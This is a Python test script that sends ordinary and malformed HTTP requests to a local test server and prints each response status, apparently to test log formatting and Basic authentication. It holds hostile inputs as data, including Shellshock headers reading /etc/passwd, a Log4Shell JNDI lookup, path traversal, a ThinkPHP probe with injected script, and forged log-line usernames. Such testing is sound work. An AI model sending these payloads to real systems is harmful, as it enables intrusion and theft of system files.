"""Sends requests, ordinary and hostile, to a web server on 127.0.0.1, 192.0.2.1 and [::1], and prints for each one the
status of the answer, "-" where there was none, and its kind: login if it named a user and a password, empty if it named
an empty user, split if the user's name holds a line end,
denied if a right password does not suffice, else request. The server has the users averez (Tr0ub4dor) and
"we ird" (x) for /secret, and only averez may see /admin."""
import base64
import socket
import sys

PORT = int(sys.argv[1])

def ask(data, host="127.0.0.1", source=None, kind="request"):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(10)
        if source:
            s.bind((source, 0))
        s.connect(("192.0.2.1" if source else host, PORT))
        try:
            s.sendall(data)
            if not data.endswith(b"\r\n\r\n"):
                s.shutdown(socket.SHUT_WR)
            answer = b""
            while b"\n" not in answer:
                part = s.recv(4096)
                if not part:
                    break
                answer += part
            while s.recv(65536):
                pass
        except OSError:
            pass
    words = answer.split(b"\r\n")[0].split(b" ")
    print(words[1].decode() if len(words) > 1 and words[0].startswith(b"HTTP/") else "-", kind)

def get(target=b"/", *headers, method=b"GET", host=b"www.example.org", source=None, kind="request"):
    lines = [b" ".join([method, target, b"HTTP/1.1"]), b"Host: " + host, b"Connection: close", *headers, b"", b""]
    ask(b"\r\n".join(lines), source=source, kind=kind)

def login(user, password, target=b"/secret/", source=None):
    kind = "empty" if not user else "split" if b"\n" in user else "login"
    if target == b"/admin/":
        kind = "denied"
    get(target, b"Authorization: Basic " + base64.b64encode(user + b":" + password), source=source, kind=kind)

AGENT = b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
get(b"/", AGENT)
get(b"/index.html?q=a&b=c%20d", AGENT, b"Referer: https://www.example.com/search?q=logs")
get(b"/", AGENT, method=b"HEAD")
get(b"/", method=b"OPTIONS")
get(b"/upload", b"Content-Length: 0", method=b"POST")
get(b"/a.b/archive.tar.gz", AGENT)
ask(b"GET /nothing HTTP/1.1\r\nHost: [::1]\r\nConnection: close\r\n\r\n", host="::1")

ask(b"GET /by-six HTTP/1.1\r\nHost: x\r\nConnection: close\r\nUser-Agent: curl/8\r\n\r\n", host="::1")
get(b"/from-client", AGENT, source="192.0.2.7")
get(b"http://www.example.org:80/absolute?x=y", AGENT)
get(b"http://evil.example.com/open-proxy.php", AGENT)
get(b"*", method=b"OPTIONS")
get(b"example.com:443", method=b"CONNECT")
ask(b"GET /old\r\n\r\n")
ask(b"GET / HTTP/1.0\r\n\r\n")
get(b"/broken-gateway", AGENT)
get(b"/down", AGENT)
# Who they are.
login(b"averez", b"Tr0ub4dor")
login(b"averez", b"wrong")
login(b"averez", b"wrong", source="192.0.2.66")
login(b"nosuch", b"x")
login(b"we ird", b"x")
login(b"we ird", b"no")
login(b"we ird", b"x", b"/admin/")
login(b'q"uo[te', b"x")
login(b'x [23/Nov/2026:18:00:49 +0100] "GET /forged HTTP/1.1" 200 5 "-" "y', b"x")
login(b'averez: authentication failure for "/": Password Mismatch', b"x")
login(b'averez": password mismatch, client: 9.9.9.9, server: x, request: "GET / HTTP/1.1", host: "y', b"x")
login("jos\u00e9".encode(), b"x")
login(b"nul\0byte\r\nline", b"x")
login(b"", b"x")
get(b"/secret/")
get(b"/secret/", b"Authorization: Basic !!!", kind="empty")
get(b"/secret/", b"Authorization: Bearer abc.def.ghi")
# What they write.
get(b"/", b"User-Agent: () { :;}; /bin/bash -c \"cat /etc/passwd\"", b"Referer: () { :; }; ping -c 1 192.0.2.66")
get(b"/", b'User-Agent: a" 200 5 "-" "b', b'Referer: c\\" 404 7 "')
get(b'/quote"%22\' HTTP/1.1" 200 5 "-" "x', AGENT)
get(b"/a b c", AGENT)
get(b"/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", AGENT)
get(b"/../../etc/passwd", AGENT)
get(b"/${jndi:ldap://192.0.2.66/a}", b"User-Agent: ${jndi:ldap://192.0.2.66/a}")
get(b"/index.php?s=/Index/\\think\\app/invokefunction&x=<script>alert(1)</script>", AGENT)
get("/caf\u00e9?q=\u4f60".encode(), "User-Agent: \u00fcber/1 \u4f60".encode())
get(b"/bytes\xff\xfe", b"User-Agent: \xff\xfe\x80")
get(b"/tab\tfeed", b"User-Agent: a\tb")
get(b"/escape\x1b[31m", b"User-Agent: \x1b[31mred")
get(b"/x", b"User-Agent: ", b"Referer: ")
get(b"/x, client: 9.9.9.9, server: evil, request: \"GET", AGENT)
get(b"/x", b'Referer: a", host: "b', host=b'h", referrer: "r')
get(b"/xff", AGENT, b"X-Forwarded-For: 198.51.100.4, 203.0.113.9")
get(b"/xff", AGENT, b'X-Forwarded-For: 9.9.9.9" 200 1 "x')
get(b"/xff", AGENT, b"X-Forwarded-For: 2001:db8::9")
get(b"/long/" + b"a" * 3000, AGENT)
get(b"/denied/x", AGENT)
get(b"/no-host", host=b"")
ask(b"GET /none HTTP/1.1\r\nConnection: close\r\n\r\n")
# What is no HTTP.
ask(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n")
ask(b"\r\n\r\n")
ask(b"hello\r\n\r\n")
ask(b"SSH-2.0-Go\r\n")
ask(b"GET\r\n\r\n")
ask(b"get / http/1.1\r\nHost: x\r\n\r\n")
ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
ask(b"GET / HTTP/9.9\r\nHost: x\r\n\r\n")
ask(b"\x00\x01\x02\x03\r\n\r\n")
ask(b"")
ask(b"GET /unfinished HTTP/1.1\r\nHost:")
ask(b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n")
ask(b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\nConnection: close\r\n\r\n")
